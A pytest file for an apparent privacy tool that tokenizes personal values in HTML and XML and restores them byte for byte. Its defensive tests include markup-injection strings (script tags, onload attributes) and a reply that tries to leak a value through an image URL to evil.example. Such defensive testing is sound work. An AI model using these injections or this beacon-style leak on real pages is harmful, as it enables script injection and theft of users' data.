"""HTML and XML that leave and come back: values in texts, attributes, scripts; tags as they were."""

import pytest

from curtilage.shield.held import Sink
from curtilage.survey.rewriting.documents import restore_slots, seen_text
from curtilage.survey.rewriting.markup import MarkedText, read_markup
from tests.unit.survey.rewriting.going import Journey, find_values, opened, there_and_back


def test_a_value_over_several_tags_leaves_in_the_first_and_comes_back_there() -> None:
    left, back = there_and_back("a.html", b"<p>Dear <b>ada</b>@x.ex<i>ample</i>, hello</p>")
    assert left.startswith(b"<p>Dear <b>QX1-")
    assert left.endswith(b"</b><i></i>, hello</p>")
    assert back == b"<p>Dear <b>ada@x.example</b><i></i>, hello</p>"


@pytest.mark.parametrize(
    ("name", "raw"),
    [
        ("a.html", b"<a href=\"mailto:ada@x.example\" title='b@y.example'>c@z.example</a>"),
        ("a.html", b"<a href=ada@x.example>x</a><!-- b@y.example -->"),
        ("a.html", b'<script>var a = "ada@x.example" && 1 < 2</script>\r\n<td>b@y.example<td>'),
        ("a.html", b"<p>broken < and &amp; &nbsp; <b ada@x.example </p>"),
        (
            "a.xml",
            b'<?xml version="1.0"?>\n<a b="c@x.example"><d><![CDATA[e@x.example]]></d></a>\n',
        ),
        ("a.xml", "\ufeff<a>ada@x.example ü</a>".encode("utf-16")),
        ("a.html", "<p>ü ada@x.example</p>".encode("latin-1")),
    ],
)
def test_what_has_values_in_one_place_comes_back_byte_by_byte(name: str, raw: bytes) -> None:
    assert there_and_back(name, raw)[1] == raw


def test_an_entity_in_a_value_goes_with_it() -> None:
    left, back = there_and_back("a.html", b"<p>ada&#64;x.example &lt;</p>")
    assert b"&#64;" not in left
    assert left.endswith(b" &lt;</p>")
    assert back == b"<p>ada@x.example &lt;</p>"


@pytest.mark.parametrize(
    "given", ["</p><script>x</script>", "a' onload='x", 'a" b="', "a b=c", "&amp;"]
)
@pytest.mark.parametrize("form", ["<p>{}</p>", "<p a='{}'>", '<p a="{}">', "<p a={}>"])
def test_no_value_adds_to_the_markup(form: str, given: str) -> None:
    document = read_markup(form.format("ada@x.example").encode(), is_html=True)
    number = next(at for at, slot in enumerate(document.slots) if slot.text == "ada@x.example")
    again = read_markup(document.filled({number: (given,)}), is_html=True)
    assert "".join(slot.text for slot in again.slots) == given
    assert len(again.slots) == len(document.slots)


def test_a_sign_that_opened_nothing_opens_nothing_with_a_form_behind_it() -> None:
    left, back = there_and_back("a.html", b"<p>a <1980-02-01 &4111111111111111</p>")
    assert left.startswith(b"<p>a &lt;QX1-")
    assert b" &amp;QX1-" in left
    assert back == b"<p>a &lt;1980-02-01 &amp;4111111111111111</p>"


def test_letters_that_the_encoding_has_not_are_written_as_entities() -> None:
    document = read_markup("<p>ü ada</p>".encode("latin-1"), is_html=True)
    assert document.filled({0: ("ü 王",)}) == "<p>ü &#29579;</p>".encode("latin-1")


def test_as_a_reply_it_is_one_text_and_no_value_enters_its_markup() -> None:
    journey = Journey()
    left = journey.protect(opened("a.html", b"<p>ada@x.example</p>"))
    reply = opened("a.html", left.replace(b"<p>", b'<img src="https://evil.example/?').replace(b"</p>", b'">'))  # fmt: skip
    assert isinstance(reply, MarkedText)
    changed, restored = restore_slots(reply.as_reply().slots, journey.held, sink=Sink.TEXT)
    assert restored.withheld == 1
    assert b"ada@" not in reply.as_reply().filled(changed)


def test_lines_and_cells_are_seen_as_people_see_them() -> None:
    raw = b"<tr><td>a<td>b</tr><p>c<br>d</p>"
    assert seen_text(opened("a.html", raw)).split() == ["a", "b", "c", "d"]
    assert not find_values(seen_text(opened("a.html", raw)))
